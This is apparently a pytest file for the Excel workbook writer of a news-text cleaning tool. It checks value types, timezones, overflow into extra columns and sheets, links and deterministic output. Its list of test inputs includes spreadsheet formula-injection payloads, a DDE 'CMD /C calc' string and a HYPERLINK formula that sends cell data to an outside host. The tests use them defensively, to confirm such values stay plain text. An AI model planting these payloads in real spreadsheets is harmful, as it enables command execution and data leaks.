"""Workbooks: what stands in their cells, what Excel cannot hold, same bytes for same rows."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from command import Result
from hypothesis import given, settings
from hypothesis import strategies as st
from invented import text
from sheets import SPACE, Sheet, sheets

import beritaclean
from beritaclean.commands.main import main
from beritaclean.outputs import flat, workbook

Run = Callable[..., Result]


@pytest.fixture
def made(tmp_path: Path) -> Callable[..., list[Sheet]]:
    """The sheets of a workbook of some rows."""

    def make(columns: Sequence[str], *rows: Sequence[Any]) -> list[Sheet]:
        return sheets(written(tmp_path, columns, *rows))

    return make


def written(folder: Path, columns: Sequence[str], *rows: Sequence[Any]) -> bytes:
    file = io.BytesIO()
    workbook.write(file, columns, lambda: iter(rows), folder)
    assert not list(folder.iterdir())
    return file.getvalue()


NASTY = [
    "=1+1",
    '=HYPERLINK("http://jahat.id?"&A1)',
    "+CMD|' /C calc'!A0",
    "-1.5",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "'=1+1",
    " di tepi ",
    "dua\nbaris",
    "dua\r\nbaris",
    "\x00\x01\x08\x0b\x1f",
    "_x0041_ dan _x000a_",
    "\ufffe\uffff",
    "<b>&amp;</b>",
    "<r>bukan tanda</r>",
    "<r><t>bukan tanda</t></r>",
    "🌧 hujan",
    "{=1+1}",
    "1234567890123456789",
    "https://kabar.id/1",
    "mailto:a@b.id",
    "internal:Sheet2!A1",
    "2025-06-18T07:30:00+07:00",
]


@pytest.mark.parametrize("nasty", NASTY)
def test_a_text_is_what_it_was_and_nothing_else(
    made: Callable[..., list[Sheet]], nasty: str
) -> None:
    (sheet,) = made([nasty, "text"], [nasty, f"{nasty}"])
    header, row = sheet.rows
    assert header["A"].value == row["A"].value == row["B"].value == nasty
    assert {row["A"].kind, row["B"].kind} == {"inlineStr"}
    assert not sheet.links


@given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40))
@settings(max_examples=60)
def test_any_text_comes_back(cell: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        (sheet,) = sheets(written(Path(folder), ["rubrik"], [cell]))
    assert sheet.rows[1]["A"].value == cell


def test_values_have_their_types(made: Callable[..., list[Sheet]]) -> None:
    columns = ["characters", "kept", "complete", "halaman", "panjang", "published", "title", "id"]
    row = [146, 0.5, True, -1.5, 10**16, "2025-06-18T07:30:00+07:00", None, ""]
    (sheet,) = made(columns, row)
    cells = sheet.rows[1]
    assert [(cells[letter].kind, cells[letter].value) for letter in "ABCDE"] == [
        ("n", "146"),
        ("n", "0.5"),
        ("b", "1"),
        ("n", "-1.5"),
        ("inlineStr", "10000000000000000"),
    ]
    assert cells["F"].kind == "n"
    assert cells["F"].when == datetime(2025, 6, 18, 7, 30)  # noqa: DTZ001
    assert "G" not in cells


@pytest.mark.parametrize(
    ("stated", "shown"),
    [
        ("2025-06-18T00:30:00+09:00", "2025-06-17 22:30:00"),
        ("2025-06-17T20:00:00+00:00", "2025-06-18 03:00:00"),
        ("2025-06-18T07:30:00", "2025-06-18 07:30:00"),
        ("1900-03-01T00:00:00+07:00", "1900-03-01 00:00:00"),
        ("9999-12-31T23:59:59-12:00", "9999-12-31 23:59:59"),
    ],
)
def test_times_are_those_of_jakarta(
    made: Callable[..., list[Sheet]], stated: str, shown: str
) -> None:
    (sheet,) = made(["published"], [stated])
    cell = sheet.rows[1]["A"]
    assert (cell.kind, str(cell.when)) == ("n", shown)


def test_a_day_before_the_calendar_of_excel_is_text(made: Callable[..., list[Sheet]]) -> None:
    (sheet,) = made(["published"], ["1899-12-31T00:00:00+07:00"])
    assert sheet.rows[1]["A"].value == "1899-12-31T00:00:00+07:00"


# --- how it looks --------------------------------------------------------------------------------


def test_the_header_stays_and_filters(made: Callable[..., list[Sheet]]) -> None:
    (sheet,) = made(["title", "text", "kept"], ["a", "b", 0.5], ["c", "d", 1.0])
    pane = sheet.part("pane")
    assert (pane.get("ySplit"), pane.get("state")) == ("1", "frozen")
    assert sheet.part("autoFilter").get("ref") == "A1:C3"
    widths = [float(one.get("width") or 0) for one in sheet.root.iter(f"{SPACE}col")]
    assert widths[1] > widths[0] > widths[2] > 8


def test_text_is_wrapped_and_dates_have_a_form(tmp_path: Path) -> None:
    book = written(tmp_path, ["text", "published"], ["a", "2025-06-18T07:30:00+07:00"])
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        styles = parts.read("xl/styles.xml").decode()
    assert 'wrapText="1"' in styles
    assert 'formatCode="dd/mm/yyyy hh:mm"' in styles
    (sheet,) = sheets(book)
    assert sheet.rows[1]["A"].style != sheet.rows[1]["B"].style


def test_a_cell_that_begins_as_a_formula_is_marked_as_text(
    made: Callable[..., list[Sheet]],
) -> None:
    (sheet,) = made(["a", "b"], ["=1+1", "Hujan"])
    row = sheet.rows[1]
    assert row["A"].style != row["B"].style


# --- links ---------------------------------------------------------------------------------------


def test_an_address_is_a_link(made: Callable[..., list[Sheet]]) -> None:
    urls = [
        "https://kabar.id/desa/17?a=1&b=2#c",
        "http://kabar.id/Jembatan%20Bambu",
        "ftp://kabar.id/1",
        "internal:Sheet2!A1",
        "external:\\\\server\\a.exe",
        "https://kabar.id/dua kata",
        'https://kabar.id/"',
        "https://kabar.id/\x01",
        f"https://kabar.id/{'a' * workbook.LONGEST_LINK}",
        "=1+1",
    ]
    (sheet,) = made(["url", "title"], *([url, url] for url in urls))
    assert sheet.links == {"A2": urls[0], "A3": urls[1]}
    assert [row["A"].value for row in sheet.rows[1:]] == urls


def test_beyond_what_a_sheet_can_hold_addresses_are_text(
    made: Callable[..., list[Sheet]], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "LINKS", 2)
    urls = [f"https://kabar.id/{number}" for number in range(4)]
    (sheet,) = made(["url"], *([url] for url in urls))
    assert sorted(sheet.links) == ["A2", "A3"]
    assert [row["A"].value for row in sheet.rows[1:]] == urls


# --- what is too large ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "story",
    [
        "a" * 32_767,
        "a" * 32_768,
        "🌧" * 16_384,
        "a" + "🌧" * 20_000,
        "kata " * 30_000,
        "\x00" * 40_000,
        "=" * 70_000,
    ],
    ids=["fits", "one more", "pairs", "pairs cut", "five cells", "escaped", "active"],
)
def test_a_long_text_goes_on_in_further_columns(
    made: Callable[..., list[Sheet]], story: str
) -> None:
    (sheet,) = made(["id", "text", "rubrik"], ["1", "Hujan.", "Desa"], ["2", story, "Kota"])
    names = [cell.value for cell in sheet.rows[0].values()]
    units = len(story.encode("utf-16-le")) // 2
    assert len(names) - 2 == -(-units // workbook.LONGEST) or units > 32_767 * 2
    assert names == ["id", "text", *(f"text ({n})" for n in range(2, len(names) - 1)), "rubrik"]
    assert [row[-1] for row in sheet.table()] == ["rubrik", "Desa", "Kota"]
    pieces = sheet.table()[2][1:-1]
    assert "".join(pieces) == story
    assert all(len(piece.encode("utf-16-le")) // 2 <= workbook.LONGEST for piece in pieces)
    assert sheet.table()[1][1:-1] == ["Hujan.", *[""] * (len(pieces) - 1)]


def test_rows_go_on_in_further_sheets(
    made: Callable[..., list[Sheet]], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "ROWS", 4)
    monkeypatch.setattr(workbook, "LINKS", 2)
    rows = [[f"https://kabar.id/{n}", n] for n in range(8)]
    found = made(["url", "characters"], *rows)
    assert [sheet.name for sheet in found] == ["articles", "articles 2", "articles 3"]
    assert [len(sheet.rows) for sheet in found] == [4, 4, 3]
    assert [row for sheet in found for row in sheet.table()[1:]] == [
        [url, str(number)] for url, number in rows
    ]
    assert all(sheet.table()[0] == ["url", "characters"] for sheet in found)
    assert [len(sheet.links) for sheet in found] == [2, 2, 2]
    assert [sheet.part("autoFilter").get("ref") for sheet in found] == ["A1:B4", "A1:B4", "A1:B3"]


def test_no_rows_are_a_header(made: Callable[..., list[Sheet]]) -> None:
    (sheet,) = made(["id", "text"])
    assert sheet.table() == [["id", "text"]]


def test_the_same_rows_give_the_same_bytes(tmp_path: Path) -> None:
    rows = [[f"https://kabar.id/{n}", "2025-06-18T07:30:00+07:00", text(n)] for n in range(30)]
    columns = ["url", "published", "text"]
    assert written(tmp_path, columns, *rows) == written(tmp_path, columns, *rows)


def test_what_fails_leaves_nothing_open(tmp_path: Path) -> None:
    def rows() -> Any:
        yield ["a"]
        yield from ([], ["b"])

    with pytest.raises(ValueError, match="zip"):
        workbook.write(io.BytesIO(), ["id"], rows, tmp_path)


# --- by the command ------------------------------------------------------------------------------

RECORDS = 30


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Run:
    """Run the command in a folder with records."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BERITACLEAN_WORKERS", "0")
    rows = [
        {"id": f"b{n}", "text": text(n), "url": f"https://kabar.id/{n}", "rubrik": "=Desa"}
        for n in range(RECORDS)
    ]
    Path("k.jsonl").write_text("".join(f"{json.dumps(row)}\n" for row in rows), encoding="utf-8")
    Path("a.txt").write_text(text(3), encoding="utf-8")

    def go(*argv: str) -> Result:
        capsys.readouterr()
        status = main(["clean", *argv])
        return Result(status, *capsys.readouterr())

    return go


def test_a_workbook_holds_what_csv_holds(run: Run) -> None:
    argv = ("k.jsonl", "-q", "--carry", "rubrik", "--columns", "id,url,title,text,rubrik,kept")
    assert run(*argv, "-o", "a.xlsx", "--shard-size", "7").status == 0
    assert run(*argv, "-o", "a.csv", "--csv-dialect", "raw").status == 0
    (sheet,) = sheets(Path("a.xlsx"))
    rows = list(csv.reader(io.StringIO(Path("a.csv").read_bytes().decode(), newline="")))
    for found, row in zip(sheet.table(), rows, strict=True):
        assert found[:-1] == row[:-1]
        assert found[-1] == row[-1] or float(found[-1]) == float(row[-1])


def test_one_document_is_a_workbook_and_nothing_else(run: Run) -> None:
    assert run("a.txt", "-o", "a.xlsx") == (0, "", "")
    assert sorted(path.name for path in Path().iterdir()) == ["a.txt", "a.xlsx", "k.jsonl"]
    (sheet,) = sheets(Path("a.xlsx"))
    row = dict(zip(*sheet.table(), strict=True))
    assert row["text"] == beritaclean.clean(text(3)).text
    assert tuple(row) == flat.FLAT_COLUMNS


def test_a_folder_holds_workbooks(run: Run) -> None:
    argv = ("k.jsonl", "-q", "-f", "xlsx", "-o", "a/", "--shard-size", "12")
    assert run(*argv).status == 0
    names = [path.name for path in sorted(Path("a").iterdir()) if path.is_file()]
    assert names == [f"part-0000{n}.xlsx" for n in range(3)]
    ids = [row["A"].value for name in names for row in sheets(Path("a") / name)[0].rows[1:]]
    assert ids == [f"b{n}" for n in range(RECORDS)]
    before = [(Path("a") / name).read_bytes() for name in names]
    (Path("a") / names[1]).unlink()
    assert run(*argv, "--resume").status == 0
    assert [(Path("a") / name).read_bytes() for name in names] == before


def test_a_run_that_begins_anew_replaces_it(run: Run) -> None:
    assert run("k.jsonl", "-q", "-o", "a.xlsx", "--shard-size", "7").status == 0
    Path("k.jsonl").write_text(f"{json.dumps({'id': 'c', 'text': text(1)})}\n", encoding="utf-8")
    assert run("k.jsonl", "-q", "-o", "a.xlsx", "--shard-size", "7").status == 0
    assert [row["A"].value for row in sheets(Path("a.xlsx"))[0].rows] == ["id", "c"]
    assert len(list(Path("a.xlsx.manifest").glob("part-*"))) == 1


def test_a_whole_run_is_gone_on_with_from_its_parts(run: Run) -> None:
    argv = ("k.jsonl", "-q", "-o", "a.xlsx", "--shard-size", "7")
    assert run(*argv).status == 0
    before = Path("a.xlsx").read_bytes()
    assert "complete already" in run(*argv, "--resume").err
    Path("a.xlsx.manifest/part-00002.jsonl").unlink()
    assert run(*argv, "--resume").status == 0
    assert Path("a.xlsx").read_bytes() == before


def test_without_its_package_it_is_told(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    from beritaclean.batch import begin

    monkeypatch.setattr(begin.importlib.util, "find_spec", lambda name: None)  # type: ignore[attr-defined]  # noqa: ARG005
    found = run("k.jsonl", "-q", "-o", "a.xlsx")
    assert found.status == 1
    assert found.last == (
        "beritaclean: a.xlsx: needs xlsxwriter to be written; pip install xlsxwriter"
    )
    assert not Path("a.xlsx").exists()


# --- memory --------------------------------------------------------------------------------------

MEASURED = """
import io, resource, sys
from pathlib import Path
from beritaclean.outputs import workbook
from beritaclean.outputs.flat import FLAT_COLUMNS

many, story = int(sys.argv[1]), "Warga desa memanen padi di sawah. " * 60
workbook.LINKS = 1_000  # so that those of both sizes are as many

def rows():
    return ([f"b{n}", f"https://kabar.id/{n}", *[None] * 19, story] for n in range(many))

workbook.write(open(sys.argv[2], "wb"), FLAT_COLUMNS, rows, Path(sys.argv[3]))
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


@pytest.mark.slow
def test_ten_times_the_rows_take_no_more_memory(tmp_path: Path) -> None:
    def memory(rows: int) -> int:
        (tmp_path / "lembar").mkdir(exist_ok=True)
        argv = [sys.executable, "-W", "ignore", "-c", MEASURED, str(rows)]
        found = subprocess.run(
            [*argv, str(tmp_path / "a.xlsx"), str(tmp_path / "lembar")],
            capture_output=True,
            text=True,
            check=True,
        )
        return int(found.stdout)

    assert memory(20_000) < 1.2 * memory(2_000)
